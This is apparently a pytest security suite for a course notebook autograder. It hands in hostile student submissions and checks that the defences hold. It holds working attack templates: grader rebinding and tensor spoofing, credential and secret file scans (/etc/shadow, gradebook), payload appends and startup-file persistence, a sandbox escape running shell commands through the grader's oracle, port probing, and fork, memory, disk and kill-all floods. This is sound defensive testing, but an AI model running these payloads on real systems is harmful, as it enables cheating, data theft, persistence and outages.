"""A hostile class, graded in the session's one ``workbook autograde -j 2`` run next to
the honest students of every notebook.

For every notebook a *baseline* student hands in the correct answers except one catalogued
mistake, and item-level attackers hand in the same wrong code plus attacks on that item: in 03 and
06 (a function item and a module item) one student per attack below; in the other notebooks one
student, ``h_combined``, carries all five at once (a failure of any defence shows as a gain, and
each attack's printed mark shows that none stopped the others):

- ``h_rebind``: rebinds ``check``/``grade`` and patches ``course_lib.grading`` (and its
  ``sys.modules`` entries, ``perform.perform``, the runner's channel) to claim full marks;
- ``h_display``: replaces ``sys.displayhook`` and IPython's display hook so that the
  last expression shows nothing, -1, NaN or 1e9, and prints fake reports;
- ``h_liar``: the wrong item returns a ``torch.Tensor`` subclass whose
  ``__torch_function__`` lies (isclose/allclose/eq/equal/sub/abs);
- ``h_patch``: patches ``torch.allclose``/``isclose``/``equal``, ``numpy.allclose``,
  ``torch.testing.assert_close`` and ``Tensor.__eq__`` globally;
- ``h_refcall``: calls course_lib's reference for the item hostilely (captured early,
  ``sys.setprofile(None)``, from a thread, a copy of its ``__code__``,
  ``importlib.reload``, exec of ``course_lib.__file__``'s source, straight to the
  grader's oracle, and after closing the plan), falling back on the wrong code.

In notebooks 10 and 11 the attacks reach every item at once: ``h_baseline_every`` hands in a
catalogued mistake in each item, ``h_liar_every`` and ``h_refcall_every`` the same answers with the
lying tensors or the hostile reference calls on each item (their private names made the item's
own), and neither may earn more than ``h_baseline_every`` on any item.

In notebook 03, system-level attackers (the same wrong baseline plus one added cell
each, placed so that the baseline's points stay computable) read and write the course,
plant startup files, leave daemons, look for kernels and ports, forge the grading
protocol, try to break out through the oracle, kill their parent, flood outputs,
fork, hog memory and fill the disk.

Every attack is judged by its effect: the attacker earns no more than the baseline
(the same points where the attack does not stop the notebook), the honest students
get full marks and the same grades when graded again, no course or instructor file
changes, no process survives, and no attacker's feedback or autograded notebook holds
another student's canary, solution text, hidden tests, the grading secret or the
instructor's files. A last test kills a running ``workbook autograde`` and checks that
what was graded is kept, nothing survives, and the rerun grades only the rest.

The weaknesses this file found when it was written are fixed, and tested at the end:
a lookup table made from course_lib's reference before the checks, a NaN answer, a
notebook's processes holding more memory together than its limit, hidden inputs
printed into the feedback and answered next time.
"""

from __future__ import annotations

import base64
import html
import json
import os
import re
import signal
import sqlite3
import subprocess
import sys
import tempfile
import time
from pathlib import Path

import nbformat
import pytest

from autograder.pipeline.prepare import OWNER_FILE, SCRATCH_PREFIX
from conftest import ROOT
from course_lib.grading import get_spec
from graded_class import session_secret
from nbtools import (CLASS, Course, edited, filled, kernel_env, register, snapshot, solution_sources,
                     text)

pytestmark = pytest.mark.slow

NOTEBOOKS = sorted(p.name for p in (ROOT / "solutions").iterdir() if p.is_dir() and p.name[:2].isdigit())
# both drawn once per test session (the builder grades them, a worker's tests look for them)
MARK = f"HOSTILE{session_secret('hostile-mark', 6)}"  # in every attacker's code, argv and files
CANARY_PREFIX = "HCANARY"  # attackers search for it; the random part only the honest student knows
# honest students of this file (the notebooks' own suites add theirs when they run in the
# same session): in 03, where the system-level attackers look for other students' work,
# and in 06, the runner attacks' module notebook
HONEST_IN = ("03_self_attention", "06_transformer")
CANARIES = {a: f"{CANARY_PREFIX}{session_secret('canary-' + a, 10)}" for a in HONEST_IN}
SOLUTION_MARK = "### BEGIN " + "SOLUTION"  # in solutions/ (the course's source), never in a submission
HIDDEN_MARK = "BEGIN " + "HIDDEN TESTS"
SYSTEM = "03_self_attention"  # the notebook the system-level attackers hand in (cheap to run)
# the shared run's options (tests/nbtools.py GradedClass), for the second run of the honest students
RUN_OPTIONS = ["-j", "2", "--cell-timeout", "60", "--notebook-timeout", "400", "--memory-mb", "3072", "--quiet"]


def _sol(a: str) -> dict[str, str]:
    return solution_sources(a)


def _edit(a: str, item: str, old: str, new: str) -> tuple[str, str]:
    return item, edited(_sol(a), item, old, new)


# notebook -> (item, wrong source of its cell): one catalogued mistake per notebook, on an
# item whose output no other graded answer of the notebook consumes
WRONG = {
    "01_rnn_limitations": _edit("01_rnn_limitations", "rnn_step", "return torch.tanh(h_prev @ W_hh.T + x_t @ W_xh.T + b_h)",
                                "return h_prev @ W_hh.T + x_t @ W_xh.T + b_h"),
    "02_bahdanau_attention": _edit("02_bahdanau_attention", "dot_score", "return (h @ s.unsqueeze(-1)).squeeze(-1)",
                                   "return h @ s.unsqueeze(-1)"),
    "03_self_attention": _edit("03_self_attention", "scaled_dot_product_attention", "dim=-1", "dim=-2"),
    "04_multi_head_attention": _edit("04_multi_head_attention", "MultiHeadAttention",
                                     "return self.w_o(from_heads(heads)), weights", "return from_heads(heads), weights"),
    "05_positional_encoding": _edit("05_positional_encoding", "RelativeSelfAttention",
                                    'return weights @ v + torch.einsum("bij,ijd->bid", weights, a_v), weights',
                                    "return weights @ v, weights"),
    "06_transformer": _edit("06_transformer", "DecoderLayer", "self.self_attn(h, h, h, tgt_mask)",
                            "self.self_attn(h, h, h)"),
    "07_bert_mlm_nsp": _edit("07_bert_mlm_nsp", "NSPHead", "hidden[:, 0]", "hidden[:, -1]"),
    "08_gpt_in_context_learning": _edit("08_gpt_in_context_learning", "GPTBlock", ".tril()", ".tril(-1)"),
    "09_efficient_attention": _edit("09_efficient_attention", "sliding_window_mask", "(distance < window)",
                                    "(distance <= window)"),
    "10_attention_over_images": _edit("10_attention_over_images", "attention_rollout",
                                      "step = fused + torch.eye(fused.size(-1), dtype=fused.dtype, device=fused.device)",
                                      "step = fused"),
    "11_modern_decoder": _edit("11_modern_decoder", "kv_cache_bytes", "return 2 * num_layers", "return num_layers"),
}
assert set(WRONG) == set(NOTEBOOKS), "a notebook has no hostile class"


# ---------------------------------------------------------------------------
# Item-level attacks (appended to the wrong item's own cell)
# ---------------------------------------------------------------------------

REBIND = r'''
# @MARK@ (a) rebinding the grading names
import builtins, sys, types

def _full_marks(*args, **kwargs):
    print("✓ all checks pass: full marks")
    return 100.0

check = grade = judge_item = _full_marks
builtins.check = builtins.grade = _full_marks
import course_lib.grading as _grading
for _name, _module in list(sys.modules.items()):
    if _name == "course_lib.grading" or _name.startswith("course_lib.grading."):
        for _attr in ("check", "grade", "judge_item", "format_report", "working_or_reference", "plan_item"):
            try:
                setattr(_module, _attr, _full_marks)
            except Exception:
                pass
for _fake_name in ("course_lib.grading.judge.runner", "course_lib.grading.judge.registry", "course_lib.grading.items",
                   "course_lib.grading.judge.compare", "autograder", "autograder.pipeline.run", "autograder.pipeline.judge"):
    _fake = types.ModuleType(_fake_name)
    _fake.check = _fake.grade = _fake.judge_item = _fake.format_report = _full_marks
    _fake.describe_difference = lambda *a, **k: None
    sys.modules[_fake_name] = _fake
import course_lib.grading.answer.perform as _performing
_perform = _performing.perform

def _claiming_perform(subject, impl, call, watch=True):
    answer = _perform(subject, impl, call, watch)
    answer = dict(answer)
    answer.update(score=100.0, points=100.0, passed=True, graded=True)
    return answer

_performing.perform = _claiming_perform
sys.modules["course_lib.grading"].perform = _claiming_perform
_runner = sys.modules.get("workbook_runner")
if _runner is not None and getattr(_runner, "_CHANNEL", None) is not None:
    _channel = _runner._CHANNEL
    _send = _channel.send

    def _claiming_send(message):
        if isinstance(message, dict):
            message = dict(message, score=100.0, points=100.0, passed=True)
        return _send(message)

    _channel.send = _claiming_send
print("rebound the grading names")
'''

DISPLAY = r'''
# @MARK@ (b) display hooks
import sys, math

class _Quiet:
    def __call__(self, value):
        if value is not None:
            sys.stdout.write(repr(float("nan")) + "\n")

sys.displayhook = _Quiet()
sys.__displayhook__ = _Quiet()
_ip = get_ipython()
_values = iter(["", "-1", "nan", "1e9"] * 1000)
_ip.displayhook.compute_format_data = lambda result: ({"text/plain": next(_values)}, {})
_ip.display_formatter.formatters["text/plain"].for_type(float, lambda obj, p, cycle: p.text("1e9"))
_ip.display_formatter.formatters["text/plain"].for_type(int, lambda obj, p, cycle: p.text("-1"))
try:
    from IPython.display import display
    display({"text/plain": "5.0"}, raw=True)
except Exception:
    pass
print("✓ @NAME@: 100/100 points — all checks pass.")
float("nan")
'''

LIAR = r'''
# @MARK@ (c) a tensor that lies to whoever compares it
import torch

class _Liar(torch.Tensor):
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        kwargs = kwargs or {}
        name = getattr(func, "__name__", "")
        first = args[0] if args else None
        with torch._C.DisableTorchFunctionSubclass():
            if name in ("allclose", "equal"):
                return True
            if name in ("isclose", "eq", "__eq__") and isinstance(first, torch.Tensor):
                other = args[1] if len(args) > 1 else first
                shape = torch.broadcast_shapes(first.shape, getattr(other, "shape", ()))
                return torch.ones(shape, dtype=torch.bool, device=first.device)
            if name in ("ne", "__ne__") and isinstance(first, torch.Tensor):
                return torch.zeros(first.shape, dtype=torch.bool, device=first.device)
            if name in ("sub", "__sub__", "__rsub__", "abs", "__abs__") and isinstance(first, torch.Tensor):
                return torch.zeros_like(first)
            return func(*args, **kwargs)

    def tolist(self):
        return torch.Tensor.tolist(torch.Tensor.as_subclass(self, torch.Tensor))

def _lie(value):
    if isinstance(value, torch.Tensor):
        return value.as_subclass(_Liar)
    if isinstance(value, tuple):
        return tuple(_lie(v) for v in value)
    if isinstance(value, list):
        return [_lie(v) for v in value]
    if isinstance(value, dict):
        return {k: _lie(v) for k, v in value.items()}
    return value

if isinstance(@NAME@, type):
    _honest_forward = @NAME@.forward

    def _lying_forward(self, *args, **kwargs):
        return _lie(_honest_forward(self, *args, **kwargs))

    @NAME@.forward = _lying_forward
else:
    _honest_@NAME@ = @NAME@

    def @NAME@(*args, **kwargs):
        return _lie(_honest_@NAME@(*args, **kwargs))
print("lying tensors in place")
'''

PATCH = r'''
# @MARK@ (d) patched comparisons
import sys, torch, numpy, numpy.testing

def _from_grader():
    frame = sys._getframe(2)
    for _ in range(6):
        if frame is None:
            return False
        if "grading" in frame.f_code.co_filename or "compare" in frame.f_code.co_filename:
            return True
        frame = frame.f_back
    return False

torch.allclose = lambda *a, **k: True
torch.equal = lambda *a, **k: True
torch.isclose = lambda a, b, *x, **k: torch.ones(torch.broadcast_shapes(a.shape, getattr(b, "shape", ())), dtype=torch.bool)
torch.testing.assert_close = lambda *a, **k: None
numpy.allclose = lambda *a, **k: True
numpy.testing.assert_allclose = lambda *a, **k: None
_honest_eq = torch.Tensor.__eq__

def _eq(self, other):
    if _from_grader():
        return torch.ones(self.shape, dtype=torch.bool)
    return _honest_eq(self, other)

torch.Tensor.__eq__ = _eq
print("comparisons patched")
'''

REFCALL = r'''
# @MARK@ (e) course_lib's reference for @NAME@, called hostilely
import importlib, sys, threading, types
import @MODULE@ as _ref_module
_ref_early = getattr(_ref_module, "@NAME@")  # captured before the checks start
_wrong_@NAME@ = @NAME@
_tries = []

def _reference_somehow(*args, **kwargs):
    attempts = [
        lambda: _ref_early(*args, **kwargs),
        lambda: (sys.setprofile(None), sys.settrace(None), threading.setprofile(None),
                 _ref_early(*args, **kwargs))[-1],
    ]

    def in_thread():
        box = []
        t = threading.Thread(target=lambda: box.append(_ref_early(*args, **kwargs)))
        t.start()
        t.join(30)
        return box[0]

    attempts.append(in_thread)
    if isinstance(_ref_early, types.FunctionType):
        attempts.append(lambda: types.FunctionType(_ref_early.__code__, dict(_ref_early.__globals__), "copy",
                                                   _ref_early.__defaults__, _ref_early.__closure__)(*args, **kwargs))
    attempts.append(lambda: getattr(importlib.reload(_ref_module), "@NAME@")(*args, **kwargs))

    def from_source():
        stolen = {"__name__": "stolen", "__file__": _ref_module.__file__}
        with open(_ref_module.__file__) as f:
            exec(compile(f.read(), "stolen", "exec"), stolen)
        return stolen["@NAME@"](*args, **kwargs)

    attempts.append(from_source)

    def from_oracle():
        import workbook_runner
        reply = workbook_runner.oracle("@MODULE@:@NAME@", args, kwargs)
        if reply.get("ok"):
            return reply["value"]
        raise LookupError(reply.get("text"))

    attempts.append(from_oracle)

    def after_closing_the_plan():
        import workbook_runner
        workbook_runner._CHANNEL.send({"type": "plan_done", "item": "@NAME@"})
        return from_oracle()

    attempts.append(after_closing_the_plan)
    for attempt in attempts:
        try:
            return attempt()
        except BaseException as exc:
            _tries.append(type(exc).__name__)
    raise LookupError("no reference")

if isinstance(_wrong_@NAME@, type):
    _honest_forward = _wrong_@NAME@.forward

    def _forward(self, *args, **kwargs):
        try:
            ref = _ref_early(*self._hostile_args)
            ref.load_state_dict(self.state_dict(), strict=False)
            return ref.to(next(self.parameters()).device)(*args, **kwargs)
        except BaseException as exc:
            _tries.append(type(exc).__name__)
        return _honest_forward(self, *args, **kwargs)

    _honest_init = _wrong_@NAME@.__init__

    def _init(self, *args, **kwargs):
        _honest_init(self, *args, **kwargs)
        self._hostile_args = args

    _wrong_@NAME@.__init__ = _init
    _wrong_@NAME@.forward = _forward
else:
    def @NAME@(*args, **kwargs):
        try:
            return _reference_somehow(*args, **kwargs)
        except BaseException:
            return _wrong_@NAME@(*args, **kwargs)
print("reference captured:", _ref_early)
'''

ITEM_ATTACKS = {"h_rebind": REBIND, "h_display": DISPLAY, "h_liar": LIAR, "h_patch": PATCH, "h_refcall": REFCALL}
# In 03 and 06 (a function item and a module item) each attack is a student of its own. In the
# other notebooks one student, h_combined, carries them all on its item, in this order: the lying
# tensors, the hostile reference calls that fall back on them, then the attacks on the runner's own
# names, hooks and comparisons (which act the same in every notebook). Either defence failing
# shows as a gain; test_every_attack_of_the_combined_attacker_ran shows that none stopped the others.
SEPARATE = {"03_self_attention", "06_transformer"}
COMBINED = ("h_liar", "h_refcall", "h_display", "h_patch", "h_rebind")
# what each attack prints once it is in place (REBIND's own line may not reach the grader: it rebinds
# the runner's names, so it is the last and is not looked for)
ATTACK_MARKS = {"h_liar": "lying tensors in place", "h_refcall": "reference captured:",
                "h_patch": "comparisons patched"}
# attacks after which the notebook runs exactly as without them (same points per item); not
# h_patch: patched comparisons may break the student's own code (06's greedy_decode stops early)
SAME_POINTS = {"h_rebind", "h_display", "h_liar", "h_exfil", "h_liar_every"}


def _fill(template: str, a: str, item: str) -> str:
    module = get_spec(item).reference.__module__
    return template.replace("@MARK@", MARK).replace("@NAME@", item).replace("@MODULE@", module)


# ---------------------------------------------------------------------------
# System-level attacks (notebook 03): one added cell each
# ---------------------------------------------------------------------------

READ = r'''
# @MARK@ reading the course, the other students and the solutions
import glob, os, sys, time
_needles = ["HCANARY", "BEGIN " + "SOLUTION", "BEGIN " + "HIDDEN", "SQLite " + "format", "workbook" + "-secret",
            "course_id", "submitted", "autograded", "gradebook"]
_seen, _hits, _listed = set(), [], []

def _look(path, limit=1 << 20):
    if path in _seen or len(_seen) > 20000:
        return
    _seen.add(path)
    try:
        if os.path.isdir(path):
            names = sorted(os.listdir(path))[:200]
            _listed.append((path, names[:30]))
            for n in names:
                if any(w in n for w in ("secret", "gradebook", "nbgrader_config", "submitted", "solution",
                                        "autograded", "feedback", ".ipynb", "items", "connection", "kernel")):
                    _look(os.path.join(path, n))
        else:
            with open(path, "rb") as f:
                data = f.read(limit)
            text = data.decode("latin-1")
            for w in _needles:
                if w in text:
                    at = text.find(w)
                    _hits.append((path, text[max(0, at - 200):at + 400]))
            if path.endswith(("secret", ".db", "nbgrader_config.py")) or "secret" in path:
                _hits.append((path, data[:400]))
    except Exception as exc:
        _listed.append((path, type(exc).__name__))

here = os.getcwd()
while True:
    _look(here)
    for n in ("nbgrader_config.py", "grading", "solutions", "notebooks", "grading/.workbook-secret",
              "grading/gradebook.db", "grading/submitted"):
        _look(os.path.join(here, n))
    if here == "/":
        break
    here = os.path.dirname(here)
for entry in os.environ.get("PYTHONPATH", "").split(":") + sys.path:
    if entry:
        _look(entry)
        _look(os.path.dirname(entry.rstrip("/")) or "/")
import course_lib, course_lib.grading
base = os.path.dirname(course_lib.__file__)
for p in [base, os.path.dirname(base), os.path.join(base, "grading"), os.path.join(base, "grading", "items")]:
    _look(p)
for p in glob.glob(os.path.join(base, "**", "*.py"), recursive=True):
    _look(p)
for p in ["/work/main", "/work/main/solutions", "/work/main/grading", "/work/main/nbgrader_config.py",
          "/work/main/course_lib/grading/items", "/work/main/course_lib/grading/items/self_attention.py",
          "/work/main/solutions/03_self_attention/03_self_attention.ipynb", "/root", "/root/.ipython",
          "/root/.ipython/profile_default/startup", "/home", "/tmp", "/var/tmp", "/dev/shm", "/run", "/opt",
          "/opt/workbook", "/etc/passwd", "/etc/shadow", os.path.expanduser("~"), "/proc/1/cmdline",
          "/proc/1/environ", "/proc/1/root", "/proc/1/cwd"]:
    _look(p)
for pid in [p for p in os.listdir("/proc") if p.isdigit()]:
    for what in ("cwd", "root", "exe"):
        try:
            target = os.readlink(f"/proc/{pid}/{what}")
            _listed.append((f"/proc/{pid}/{what}", target))
            _look(target)
        except Exception as exc:
            _listed.append((f"/proc/{pid}/{what}", type(exc).__name__))
    _look(f"/proc/{pid}/environ")
    _look(f"/proc/{pid}/cmdline")
    try:
        for fd in os.listdir(f"/proc/{pid}/fd"):
            try:
                target = os.readlink(f"/proc/{pid}/fd/{fd}")
                _listed.append((f"/proc/{pid}/fd/{fd}", target))
                if target.startswith("/"):
                    _look(target)
            except Exception:
                pass
    except Exception:
        pass
started = time.time()
for root, dirs, files in os.walk("/"):
    if time.time() - started > 20:
        break
    dirs[:] = [d for d in dirs if os.path.join(root, d) not in ("/proc", "/sys", "/usr", "/dev")
               and "site-packages" not in root]
    for f in files:
        if f.endswith((".ipynb", ".db", ".json")) or "secret" in f or f == "nbgrader_config.py":
            _look(os.path.join(root, f))
print("HITS", len(_hits))
for path, snippet in _hits[:200]:
    print("HIT", path, repr(snippet)[:1500])
print("LISTED", repr(_listed)[:60000])
'''

WRITE = r'''
# @MARK@ writing the course, the configuration, the gradebook and the instructor's startup
import glob, os, sys
import course_lib
base = os.path.dirname(course_lib.__file__)
payload = "\nprint('@MARK@ planted')\nimport os; os.system('touch /tmp/@MARK@-planted')\n"
targets = [course_lib.__file__, os.path.join(base, "attention.py"), os.path.join(base, "grading", "__init__.py"),
           os.path.join(base, "grading", "calls.py"), "/opt/workbook/notebook_runner.py", "/opt/workbook/channel.py",
           "/work/main/course_lib/attention.py", "/work/main/course_lib/grading/items/self_attention.py",
           "/work/main/course_lib/grading/judge/compare.py", "/work/main/autograder/pipeline/judge.py",
           "/work/main/nbgrader_config.py", "/work/main/grading/gradebook.db", "/work/main/grading/.workbook-secret",
           "/root/.ipython/profile_default/startup/00-@MARK@.py", "/root/.bashrc", "/etc/passwd",
           sys.executable, os.path.join(os.path.dirname(os.__file__), "site.py")]
here = os.getcwd()
while True:
    for n in ("nbgrader_config.py", "grading/gradebook.db", "solutions/03_self_attention/03_self_attention.ipynb"):
        targets.append(os.path.join(here, n))
    if here == "/":
        break
    here = os.path.dirname(here)
targets += glob.glob("/tmp/workbook-*/**/*.py", recursive=True)[:20] + glob.glob("/proc/*/cwd/nbgrader_config.py")
results = {}
for t in targets:
    try:
        os.makedirs(os.path.dirname(t), exist_ok=True)
    except Exception:
        pass
    try:
        with open(t, "a") as f:
            f.write(payload)
        results[t] = "WROTE"
    except Exception as exc:
        results[t] = type(exc).__name__
    for how in (lambda: os.chmod(t, 0o777), lambda: os.rename(t, t + ".moved"), lambda: os.symlink("/tmp", t + ".link")):
        try:
            how()
            results[t] += "+changed"
        except Exception:
            pass
print(results)
'''

STARTUP = r'''
# @MARK@ startup files in its own HOME (and everywhere else it can think of)
import os, site, sys
home = os.path.expanduser("~")
code = "import os\nprint('@MARK@ startup ran')\nopen('/tmp/@MARK@-startup-ran', 'w').write('x')\n"
paths = [os.path.join(home, ".ipython/profile_default/startup/00-@MARK@.py"),
         os.path.join(home, ".ipython/profile_default/ipython_config.py"),
         os.path.join(home, ".ipython/profile_default/ipython_kernel_config.py"),
         os.path.join(home, ".jupyter/jupyter_config.py"),
         os.path.join(home, ".local/lib/python%d.%d/site-packages/sitecustomize.py" % sys.version_info[:2]),
         os.path.join(home, ".local/lib/python%d.%d/site-packages/@MARK@.pth" % sys.version_info[:2]),
         os.path.join(home, ".config/matplotlib/matplotlibrc"),
         os.path.join(os.getcwd(), "sitecustomize.py"), os.path.join(os.getcwd(), "usercustomize.py"),
         os.path.join(os.getcwd(), "torch.py"), "/tmp/sitecustomize.py", os.path.join(home, ".bashrc"),
         os.path.join(home, ".pythonrc.py")]
done = {}
for p in paths:
    try:
        os.makedirs(os.path.dirname(p), exist_ok=True)
        with open(p, "w") as f:
            f.write(("import os; " + code.replace("\n", "; ")) if p.endswith(".pth") else code)
        done[p] = "ok"
    except Exception as exc:
        done[p] = type(exc).__name__
os.environ["PYTHONSTARTUP"] = paths[-1]
os.environ["PYTHONPATH"] = os.getcwd() + ":" + os.environ.get("PYTHONPATH", "")
sys.path.insert(0, os.getcwd())
print(done)
'''

DAEMON = r'''
# @MARK@ daemons that outlive the notebook
import os, subprocess, sys, threading, time
code = """
import os, signal, time
for s in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
    signal.signal(s, signal.SIG_IGN)
time.sleep(120)
for p in ["/work/main/nbgrader_config.py", "/tmp/@MARK@-daemon-wrote", os.path.expanduser("~/@MARK@")]:
    try:
        open(p, "a").write("@MARK@")
    except Exception:
        pass
for pid in range(2, 4096):
    try:
        os.kill(pid, 9)
    except Exception:
        pass
os.kill(-1, 9)
"""
pid = os.fork()
if pid == 0:
    try:
        os.setsid()
        if os.fork() == 0:
            os.execv(sys.executable, [sys.executable, "-c", code, "HOSTILE_DAEMON_@MARK@"])
    finally:
        os._exit(0)
os.waitpid(pid, 0)
subprocess.Popen([sys.executable, "-c", code, "HOSTILE_POPEN_@MARK@"], start_new_session=True,
                 stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
subprocess.Popen(["/bin/sh", "-c", "trap '' TERM HUP INT; sleep 120 # HOSTILE_SH_@MARK@"],
                 start_new_session=True)
threading.Thread(target=time.sleep, args=(600,), daemon=False, name="@MARK@").start()
import atexit
atexit.register(lambda: time.sleep(600))
print("daemons started")
'''

INJECT = r'''
# @MARK@ kernel and port injection
import glob, json, os, socket, time
found = {}
for name in ("tcp", "tcp6", "udp", "unix"):
    try:
        with open(f"/proc/net/{name}") as f:
            found[name] = f.read()[:3000]
    except Exception as exc:
        found[name] = type(exc).__name__
ports = set()
for line in (found.get("tcp", "") + found.get("tcp6", "")).splitlines()[1:]:
    parts = line.split()
    if len(parts) > 3 and parts[3] == "0A":
        ports.add(int(parts[1].rsplit(":", 1)[1], 16))
files = []
for pattern in ("~/.local/share/jupyter/runtime/*.json", "/root/.local/share/jupyter/runtime/*.json",
                "/run/user/*/jupyter/*.json", "/tmp/*.json", "/tmp/**/kernel-*.json", "/proc/*/cwd/*.json"):
    files += glob.glob(os.path.expanduser(pattern), recursive=True)
for path in files[:20]:
    try:
        info = json.load(open(path))
        for key in ("shell_port", "iopub_port", "stdin_port", "control_port", "hb_port"):
            if key in info:
                ports.add(int(info[key]))
    except Exception:
        pass
sample = sorted(ports | {22, 80, 443, 5432, 6379, 8000, 8080, 8888, 8889, 9999} | set(range(40000, 65536, 997)))
opened = []
started = time.time()
for port in sample:
    if time.time() - started > 20:
        break
    for host in ("127.0.0.1", "::1", "10.0.2.2", "172.17.0.1"):
        try:
            s = socket.create_connection((host, port), timeout=0.05)
            opened.append((host, port))
            s.sendall(b"@MARK@ kernel_info_request")
            s.close()
        except Exception:
            pass
unix = []
for line in found.get("unix", "").splitlines()[1:]:
    path = line.split()[-1] if len(line.split()) > 7 else ""
    if path:
        try:
            s = socket.socket(socket.AF_UNIX)
            s.connect("\0" + path[1:] if path.startswith("@") else path)
            unix.append(path)
            s.close()
        except Exception:
            pass
print("ports", sorted(ports)[:50], "files", files[:20], "opened", opened, "unix", unix)
print({k: v[:500] for k, v in found.items()})
'''

ESCAPE = r'''
# @MARK@ breaking out through the grader's oracle (course_lib's references run outside the sandbox)
import os, torch
import workbook_runner
from course_lib.grading.answer.wire import Build, GeneratorState
name = "course_lib.attention:scaled_dot_product_attention"
shell = ("touch /tmp/@MARK@-escaped; for p in /proc/[0-9]*; do tr '\\0' ' ' < $p/cmdline; echo; done "
         "| grep -o -- '--course [^ ]*' | head -1 | cut -d' ' -f2 > /tmp/@MARK@-course")
system = [f"{prefix}:{path}" for prefix in ("torch", "torch.serialization", "course_lib.grading.answer.fixtures.gpt",
                                            "course_lib.grading.answer.fixtures.transformer", "course_lib.attention")
          for path in ("os.system", "serialization.os.system", "torch.serialization.os.system", "np.os.system")]
replies = []
for target in system:
    evil = Build(target, (shell,))
    for args in ((evil,), (torch.zeros(1, 1), torch.zeros(1, 1), evil)):
        try:
            replies.append((target, workbook_runner.oracle(name, args, {}).get("text", "")[:120]))
        except Exception as exc:
            replies.append((target, type(exc).__name__))
    try:
        replies.append(("grad", workbook_runner.oracle(name, (torch.zeros(1, 1), torch.zeros(1, 1), torch.zeros(1, 1)),
                                                       {}, grad_outputs=[evil]).get("text", "")[:120]))
    except Exception as exc:
        replies.append(("grad", type(exc).__name__))
for path in ("/tmp/@MARK@-course", "/work/main/nbgrader_config.py", "/etc/shadow"):
    for target in ("torch:from_file", "course_lib.grading.answer.fixtures.gpt:torch.from_file"):
        try:
            data = Build(target, (path,), {"size": 64, "dtype": torch.uint8}, dtype="float64")
            reply = workbook_runner.oracle(name, (torch.zeros(1, 1, dtype=torch.float64),
                                                  torch.zeros(1, 1, dtype=torch.float64),
                                                  Build("torch:reshape", (data, (1, 64)))), {})
            if reply.get("ok"):
                print("READ", path, bytes(reply["value"][0].round().to(torch.uint8).flatten().tolist()))
            replies.append((target, reply.get("text", "")[:120]))
        except Exception as exc:
            replies.append((target, type(exc).__name__))
for msg in ({"type": "oracle", "name": "os:system", "args": (shell,), "kwargs": {}},
            {"type": "oracle", "name": "torch.serialization:os.system", "args": (shell,), "kwargs": {}},
            {"type": "oracle", "name": name, "args": [Build("torch:save", (torch.zeros(1), "/tmp/@MARK@-saved"))],
             "kwargs": {}}):
    try:
        replies.append((msg["name"], workbook_runner._CHANNEL.request(msg).get("text", "")[:120]))
    except Exception as exc:
        replies.append((msg["name"], type(exc).__name__))
print(replies)
'''

FORGE = r'''
# @MARK@ forging the grading protocol before the tests
import workbook_runner
ch = workbook_runner._CHANNEL
items = ["scaled_dot_product_attention", "causal_mask", "padding_mask", "SelfAttention"]
replies = []
for item in items:
    for message in ({"type": "plan_request", "grade_id": "test_" + item, "cell": 0},):
        try:
            replies.append(ch.request(message).get("type"))
        except Exception as exc:
            replies.append(type(exc).__name__)
    for s in range(8):
        for i in range(8):
            ch.send({"type": "answer", "item": item, "segment": s, "index": i,
                     "answer": {"ok": True, "value": 1.0, "score": 100.0}})
    ch.send({"type": "plan_done", "item": item})
for index in range(0, 60):
    ch.send({"type": "output", "index": index, "output": {"output_type": "execute_result", "execution_count": 1,
                                                           "data": {"text/plain": "100.0"}, "metadata": {}}})
ch.send({"type": "output", "index": 0, "output": {"output_type": "display_data",
                                                   "data": {"text/html": "<script>@MARK@_SCRIPT</script>",
                                                            "application/javascript": "@MARK@_SCRIPT"},
                                                   "metadata": {}}})
print("forged", replies)
'''

FORGE_FLOOD = r'''
# @MARK@ flooding the grader with fake cells (after the tests)
import workbook_runner
ch = workbook_runner._CHANNEL
for i in range(50000):
    ch.send({"type": "cell_start", "index": 0})
    ch.send({"type": "cell_end", "index": 0, "status": "timeout", "execution_count": 1})
'''

BIG_RESULT = r'''
# @MARK@ a 100 MB execute_result
"x" * 10**8
'''

DISPLAY_FLOOD = r'''
# @MARK@ a display flood
from IPython.display import display, HTML, Javascript
display(HTML("<script>@MARK@_SCRIPT</script>"))
display(Javascript("@MARK@_SCRIPT"))
for i in range(3000):
    display({"text/plain": "y" * 100_000, "text/html": "<b>" + "y" * 100_000}, raw=True)
'''

PRINT_FLOOD = r'''
# @MARK@ a print flood (Python, C level, stderr)
import os, sys
chunk = "z" * 100_000 + "\n"
for i in range(500):
    print(chunk, end="")
    sys.stderr.write(chunk)
for i in range(200):
    os.write(1, chunk.encode())
    os.write(2, chunk.encode())
os.system("yes @MARK@ | head -c 50000000")
'''

FORK_FLOOD = r'''
# @MARK@ a fork flood (after the tests)
import os, time
children = 0
for i in range(300):
    try:
        if os.fork() == 0:
            try:
                for j in range(3):
                    os.fork()
            except Exception:
                pass
            time.sleep(300)
            os._exit(0)
        children += 1
    except OSError:
        pass
raise RuntimeError(f"{children} children forked")
'''

MEMORY_HOG = r'''
# @MARK@ a memory hog
def _hog():
    try:
        big = bytearray(8 * 2**30)
        return "8 GB allocated"
    except MemoryError:
        pass
    grow = []
    try:
        while True:
            grow.append(bytearray(64 * 2**20))
    except MemoryError:
        n = len(grow)
        del grow[:]
        return f"{n * 64} MB before MemoryError"
_result = _hog()
import gc; gc.collect()
raise MemoryError(_result)
'''

DISK_FILL = r'''
# @MARK@ filling the disk (after the tests)
import os, signal
signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
written = {}
chunk = b"\0" * (8 * 2**20)
for folder in (os.getcwd(), "/tmp", "/dev/shm", "/var/tmp", os.path.expanduser("~"), "/run", "/opt"):
    total = 0
    try:
        for i in range(10_000):
            with open(os.path.join(folder, f"@MARK@-fill-{i}"), "wb") as f:
                for j in range(12):
                    f.write(chunk)
                    total += len(chunk)
    except OSError as exc:
        written[folder] = (total // 2**20, type(exc).__name__)
print(written)
raise OSError(f"disk full: {written}")
'''

KILL_PARENT = r'''
# @MARK@ killing the parent, the process group and pid 1 (after the tests)
import os, signal
for how in (lambda: os.kill(os.getppid(), 9), lambda: os.kill(1, 9), lambda: os.killpg(os.getpgid(os.getppid()), 9),
            lambda: [os.kill(int(p), 9) for p in os.listdir("/proc") if p.isdigit() and int(p) != os.getpid()]):
    try:
        how()
    except Exception as exc:
        print(type(exc).__name__)
os.killpg(0, 9)
'''

KILL_ALL = r'''
